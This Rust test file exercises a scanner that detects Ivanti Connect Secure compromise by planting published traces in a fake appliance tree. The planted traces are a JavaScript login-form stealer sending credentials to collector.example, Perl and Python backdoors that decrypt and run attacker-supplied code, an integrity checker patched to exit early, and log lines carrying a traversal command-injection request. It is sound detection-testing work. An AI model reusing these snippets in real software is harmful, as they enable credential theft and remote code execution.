//! Ivanti Connect Secure detectors over a genuine-shaped appliance tree built at test time (the
//! 22.x layout: CGI scripts, Perl and Python modules, the integrity checker, a manifest that
//! lists them) and its exported web log; each test plants one published trace. The genuine
//! tree gives NOT FOUND.

mod common;

use common::{Run, run, run_with};
use ferret_checks::intel::CheckIntel;
use ferret_checks::{Campaign, CheckOptions};
use ferret_core::{Severity, Verdict};
use ferret_intel::Intel;
use ferret_testkit::Tree;
use sha2::Digest as _;

/// The appliance root inside the fixture tree.
const ROOT: &str = "ics-image";

const AUTH: &str = "/home/webserver/htdocs/dana-na/auth";
const VISITS: &str =
    "/home/venv3/lib/python3.6/site-packages/cav-0.1-py3.6.egg/cav/api/resources/visits.py";

const CHECKER: &str = "#!/bin/sh\n# integrity checker\nnewfilecount=0\nmismatchcount=0\nfor f in $(cat /home/etc/manifest/manifest); do\n  newfilecount=$((newfilecount+1))\ndone\nif [ $mismatchcount -gt 0 ] || [ $newfilecount -gt 0 ]; then\n  echo \"integrity check failed\"\n  exit 1\nfi\nexit 0\n";

/// The product files of the genuine-shaped appliance: (appliance path, content).
fn product_files() -> Vec<(String, String)> {
    vec![
        (format!("{AUTH}/compcheckresult.cgi"), "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nprint \"Content-type: text/html\\n\\n\";\nprint \"Compatibility check passed\\n\";\n".to_owned()),
        (format!("{AUTH}/lastauthserverused.js"), "// Remember the last selected auth realm for 30 days\nfunction SetLastRealm(sValue) {\n  var exp = new Date(); exp.setTime(exp.getTime() + 30*24*3600*1000);\n  document.cookie = \"lastRealm=\" + escape(sValue) + \"; expires=\" + exp.toGMTString();\n}\n".to_owned()),
        (format!("{AUTH}/restAuth.cgi"), "#!/usr/bin/perl\nuse DSAuth;\nprint \"Content-type: application/json\\n\\n{}\";\n".to_owned()),
        ("/home/webserver/htdocs/dana-na/jam/getComponent.cgi".to_owned(), "#!/usr/bin/perl\nuse DSUpgrade;\nprint \"Content-type: text/xml\\n\\n\";\n".to_owned()),
        ("/home/perl/DSAuth.pm".to_owned(), "package DSAuth;\nuse strict;\nsub authenticate { my ($u, $p) = @_; return DSAuth::backend($u, $p); }\n1;\n".to_owned()),
        ("/home/perl/DSUpgrade.pm".to_owned(), "package DSUpgrade;\nuse strict;\nsub run_upgrade {\n    my $pkg = shift;\n    system(\"/bin/tar -xzf $pkg -C /tmp/new\");\n    return 0;\n}\nsub processUpgradeDisplay { return 1; }\n1;\n".to_owned()),
        (VISITS.to_owned(), "from flask import request\nfrom cav.api.utils import Utils\n\nclass Visits:\n    def post(self):\n        \"\"\"Handles POST request to record visits data.\"\"\"\n        return Utils.api_log_admin(request.data)\n".to_owned()),
        ("/home/bin/check_integrity.sh".to_owned(), CHECKER.to_owned()),
        ("/home/bin/dspkginstall".to_owned(), "\x7fELF test dspkginstall build 22.7R2.4 vsnprintf".to_owned()),
        ("/home/lib/libdsplibs.so".to_owned(), "\x7fELF test libdsplibs build 22.7R2.4".to_owned()),
    ]
}

fn sha256(data: &[u8]) -> String {
    hex::encode(sha2::Sha256::digest(data))
}

fn manifest_of(files: &[(String, String)]) -> String {
    let mut s = String::new();
    for (p, c) in files {
        s.push_str(&format!("{p} {}\n", sha256(c.as_bytes())));
    }
    s
}

/// The appliance's web log, exported: ordinary sign-ins and API calls in January 2024.
fn access_log(extra: &[&str]) -> String {
    let mut s = String::new();
    for h in 0..48 {
        s.push_str(&format!(
            "10.1.2.{} - - [{:02}/Jan/2024:{:02}:15:00 +0000] \"GET /dana-na/auth/url_default/welcome.cgi HTTP/1.1\" 200 5120 \"-\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\"\n",
            h % 200,
            10 + h / 24,
            h % 24
        ));
        s.push_str(&format!(
            "10.1.2.{} - alice [{:02}/Jan/2024:{:02}:16:00 +0000] \"GET /api/v1/cav/client/status HTTP/1.1\" 200 204 \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\"\n",
            h % 200,
            10 + h / 24,
            h % 24
        ));
        s.push_str(&format!(
            "10.1.2.{} - alice [{:02}/Jan/2024:{:02}:17:00 +0000] \"POST /dana-na/auth/url_default/login.cgi HTTP/1.1\" 302 0 \"-\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\"\n",
            h % 200,
            10 + h / 24,
            h % 24
        ));
    }
    for l in extra {
        s.push_str(l);
        s.push('\n');
    }
    s
}

/// A genuine-shaped appliance with `files` on the box, its manifest listing `listed`, and its
/// web log holding `log_extra`.
fn appliance(files: &[(String, String)], listed: &[(String, String)], log_extra: &[&str]) -> Tree {
    let t = Tree::new();
    for (p, c) in files {
        t.file(format!("{ROOT}{p}"), c);
    }
    t.file(format!("{ROOT}/home/etc/manifest/manifest"), manifest_of(listed));
    t.file(format!("{ROOT}/home/runtime/logs/log.events.vc0"), b"\x00\x01event\x09\x00");
    t.file("exports/ics-access.log", access_log(log_extra));
    t
}

fn genuine() -> Tree {
    let files = product_files();
    appliance(&files, &files, &[])
}

fn ivanti(t: &Tree) -> Run {
    run(t.root(), &[Campaign::IvantiConnectSecure])
}

/// The product files with one replaced.
fn with(path: &str, content: &str) -> Vec<(String, String)> {
    let mut files = product_files();
    for f in &mut files {
        if f.0 == path {
            content.clone_into(&mut f.1);
        }
    }
    files
}

#[test]
fn genuine_appliance_is_not_found() {
    let t = genuine();
    let r = ivanti(&t);
    assert!(r.findings.is_empty(), "{:#?}", r.findings);
    assert_eq!(r.verdict(Campaign::IvantiConnectSecure), Some(Verdict::NotFound));
    // Without --campaign the same tree is answered for both names of the appliance.
    let r = run(t.root(), &[]);
    assert!(r.findings.is_empty(), "{:#?}", r.findings);
    assert_eq!(r.verdict(Campaign::IvantiConnectSecure), Some(Verdict::NotFound));
    assert_eq!(r.verdict(Campaign::PulseSecure), Some(Verdict::NotFound));
}

#[test]
fn warpwire_in_lastauthserverused_is_affected() {
    let page = format!("{AUTH}/lastauthserverused.js");
    let genuine = product_files().into_iter().find(|f| f.0 == page).unwrap().1;
    let planted = format!(
        "{genuine}function SetLastRealm2(){{\nvar wdata = document.frmLogin.username.value;\nvar sdata = document.frmLogin.password.value;\nif (wdata && sdata) {{ var xhr = new XMLHttpRequest();\nxhr.open('GET', 'https://collector.example/x?'+btoa(location.host+':'+wdata+'&'+sdata;\n) ; }}\n}}\n"
    );
    let files = with(&page, &planted);
    let t = appliance(&files, &product_files(), &[]);
    let r = ivanti(&t);
    let hits = r.of("IC001");
    assert_eq!(hits.len(), 1, "{:#?}", r.findings);
    assert_eq!(hits[0].severity, Severity::Critical);
    assert!(hits[0].message.as_deref().unwrap_or("").contains("WARPWIRE"));
    assert!(hits[0].message.as_deref().unwrap_or("").contains("genuine product file"));
    // The manifest comparison, shared with the Pulse checks, sees the modified page too.
    let mismatch = r.of("IC004");
    assert_eq!(mismatch.len(), 1, "{:#?}", r.findings);
    assert_eq!(mismatch[0].details.get("shared_with").and_then(|v| v.as_str()), Some("PS002"));
    assert_eq!(r.verdict(Campaign::IvantiConnectSecure), Some(Verdict::Affected));
}

#[test]
fn lightwire_is_found_by_content_even_with_a_rewritten_manifest() {
    let page = format!("{AUTH}/compcheckresult.cgi");
    let genuine = product_files().into_iter().find(|f| f.0 == page).unwrap().1;
    let planted = format!(
        "{genuine}eval{{my $c=Crypt::RC4->new(\"test-key\");my $d=$c->RC4(decode_base64(CGI::param('comp')));;eval $d;}};if($@){{print \"Compatibility check: $@\";}}\n"
    );
    let files = with(&page, &planted);
    // The actor rewrote the manifest: the comparison sees nothing, the content decides.
    let t = appliance(&files, &files, &[]);
    let r = ivanti(&t);
    assert!(r.of("IC004").is_empty(), "{:#?}", r.findings);
    let hits = r.of("IC001");
    assert_eq!(hits.len(), 1, "{:#?}", r.findings);
    let fam: Vec<_> = hits[0].evidence.iter().filter(|e| e.label == "family").collect();
    assert!(!fam.is_empty());
    assert_eq!(r.verdict(Campaign::IvantiConnectSecure), Some(Verdict::Affected));
}

#[test]
fn wirefire_in_visits_py_is_affected() {
    let genuine = product_files().into_iter().find(|f| f.0 == VISITS).unwrap().1;
    let planted = format!(
        "{genuine}\n    def delete(self):\n        \"\"\"Handles DELETE request to delete an existing visits data.\"\"\"\n        if request.data.decode().startswith('GIF'):\n            c = zlib.decompress(aes.decrypt(base64.b64decode(request.data[6:])))\n            t = run(c)\n            return aes.encrypt(t+('\\x00'*(16-len(t)%16)))\n        return Utils.api_log_admin(request.data)\n"
    );
    let files = with(VISITS, &planted);
    let t = appliance(&files, &files, &[]);
    let r = ivanti(&t);
    let hits = r.of("IC001");
    assert_eq!(hits.len(), 1, "{:#?}", r.findings);
    assert!(hits[0].message.as_deref().unwrap_or("").contains("WIREFIRE"));
}

#[test]
fn published_names_evidence_and_leads() {
    let mut files = product_files();
    files.push(("/usr/lib/libsecure.so.1".to_owned(), "\x7fELF preload".to_owned()));
    let t = appliance(&files, &product_files(), &[]);
    let r = ivanti(&t);
    let hits = r.of("IC001");
    assert_eq!(hits.len(), 1, "{:#?}", r.findings);
    assert!(hits[0].severity >= Severity::High);
    assert_eq!(r.verdict(Campaign::IvantiConnectSecure), Some(Verdict::Affected));

    // The TRAILBLAZE dropper's one-letter /tmp files are too generic to decide: a lead.
    let mut files = product_files();
    files.push(("/tmp/.i".to_owned(), "\x7fELF".to_owned()));
    let t = appliance(&files, &product_files(), &[]);
    let r = ivanti(&t);
    let hits = r.of("IC001");
    assert_eq!(hits.len(), 1, "{:#?}", r.findings);
    assert!(hits[0].severity < Severity::High);
    assert_eq!(r.verdict(Campaign::IvantiConnectSecure), Some(Verdict::NotFound));
}

#[test]
fn exploitation_requests_in_the_web_log() {
    let lines = [
        r#"198.51.100.7 - - [11/Jan/2024:03:04:05 +0000] "GET /api/v1/totp/user-backup-code/../../license/keys-status/%3Bpython%20-c%20%27import%20socket%27 HTTP/1.1" 200 12 "-" "curl/8.0""#,
        r#"198.51.100.8 - - [11/Jan/2024:03:05:05 +0000] "GET /dana-ws/saml20.ws HTTP/1.1" 200 12 "-" "curl/8.0""#,
    ];
    let files = product_files();
    let t = appliance(&files, &files, &lines);
    let r = ivanti(&t);
    let hits = r.of("IC002");
    assert_eq!(hits.len(), 2, "{:#?}", r.findings);
    assert_eq!(hits.iter().filter(|f| f.severity == Severity::Critical).count(), 1);
    assert_eq!(r.verdict(Campaign::IvantiConnectSecure), Some(Verdict::Affected));
}

#[test]
fn tampered_integrity_checker_is_reported_under_this_campaign() {
    let patched = CHECKER.replacen("newfilecount=0\n", "exit 0\nnewfilecount=0\n", 1);
    let files = with("/home/bin/check_integrity.sh", &patched);
    let t = appliance(&files, &files, &[]);
    let r = ivanti(&t);
    let hits = r.of("IC006");
    assert_eq!(hits.len(), 1, "{:#?}", r.findings);
    assert_eq!(r.verdict(Campaign::IvantiConnectSecure), Some(Verdict::Affected));
}

#[test]
fn logs_before_the_window_are_unknown() {
    let t = Tree::new();
    t.file(
        "exports/old-access.log",
        "10.1.2.3 - - [12/Apr/2021:10:15:00 +0000] \"GET /dana-na/auth/url_default/welcome.cgi HTTP/1.1\" 200 5120 \"-\" \"Mozilla/5.0\"\n",
    );
    for (p, c) in product_files() {
        t.file(format!("{ROOT}{p}"), c);
    }
    t.file(format!("{ROOT}/home/etc/manifest/manifest"), manifest_of(&product_files()));
    let r = run_with(
        t.root(),
        CheckOptions { campaigns: vec![Campaign::IvantiConnectSecure], ..CheckOptions::default() },
    );
    assert!(r.findings.is_empty(), "{:#?}", r.findings);
    assert_eq!(r.verdict(Campaign::IvantiConnectSecure), Some(Verdict::Unknown));
}

/// The built-in intel with one table's text replaced by `edit` of it.
fn intel_with(table: &str, edit: impl Fn(&str) -> String) -> std::sync::Arc<CheckIntel> {
    let files: Vec<(String, Vec<u8>)> = Intel::builtin_files()
        .iter()
        .map(|(p, t)| {
            let t = if *p == table { edit(t) } else { (*t).to_owned() };
            ((*p).to_owned(), t.into_bytes())
        })
        .collect();
    let intel = Intel::from_texts(files.iter().map(|(p, t)| (p.as_str(), t.as_slice()))).unwrap();
    std::sync::Arc::new(CheckIntel::from_intel(std::sync::Arc::new(intel)).unwrap())
}

#[test]
fn a_loaded_intel_replaces_the_ivanti_tables() {
    let line = r#"198.51.100.9 - - [11/Jan/2024:03:04:05 +0000] "GET /dana-na/added-by-pack.cgi HTTP/1.1" 200 12 "-" "curl/8.0""#;
    let marked = "#!/usr/bin/perl\n# pack-marker-one pack-marker-two\n";
    let files = with(&format!("{AUTH}/compcheckresult.cgi"), marked);
    let t = appliance(&files, &files, &[line]);
    let opts = |intel| CheckOptions {
        campaigns: vec![Campaign::IvantiConnectSecure],
        intel,
        ..CheckOptions::default()
    };
    // The built-in tables know neither the request nor the markers.
    let r = run_with(t.root(), opts(CheckIntel::builtin()));
    assert!(r.of("IC002").is_empty() && r.of("IC001").is_empty(), "{:#?}", r.findings);
    // A pack adding a request row and a marker set finds both.
    let intel = intel_with("ivanti-connect-secure/requests.tsv", |t| {
        format!(
            "{t}uri\t/dana-na/added-by-pack.cgi\t\tCVE-2099-0001\thigh\ta test row\tA test advisory <https://advisory.invalid/>\t2026-01-05\thigh\n"
        )
    });
    let r = run_with(t.root(), opts(intel));
    assert_eq!(r.of("IC002").len(), 1, "{:#?}", r.findings);
    assert!(r.of("IC002")[0].message.as_deref().unwrap_or("").contains("CVE-2099-0001"));
    let intel = intel_with("ivanti-connect-secure/markers.tsv", |t| {
        format!(
            "{t}packset\tPACKFAMILY\tpack-marker-one\t2\tA test advisory\t2026-01-05\thigh\npackset\tPACKFAMILY\tpack-marker-two\t2\tA test advisory\t2026-01-05\thigh\n"
        )
    });
    let r = run_with(t.root(), opts(intel));
    let hits = r.of("IC001");
    assert_eq!(hits.len(), 1, "{:#?}", r.findings);
    assert!(hits[0].message.as_deref().unwrap_or("").contains("PACKFAMILY"));
    assert_eq!(r.verdict(Campaign::IvantiConnectSecure), Some(Verdict::Affected));
    // A pack without the request patterns no longer finds the published exploitation.
    let bypass = r#"198.51.100.7 - - [11/Jan/2024:03:04:05 +0000] "GET /api/v1/totp/user-backup-code/../../license/keys-status/%3Bid HTTP/1.1" 200 12 "-" "curl/8.0""#;
    let t = appliance(&product_files(), &product_files(), &[bypass]);
    assert_eq!(run_with(t.root(), opts(CheckIntel::builtin())).of("IC002").len(), 1);
    let intel = intel_with("ivanti-connect-secure/requests.tsv", |t| {
        t.lines()
            .filter(|l| l.starts_with('#') || l.starts_with("kind"))
            .flat_map(|l| [l, "\n"])
            .collect()
    });
    assert!(run_with(t.root(), opts(intel)).of("IC002").is_empty());
}
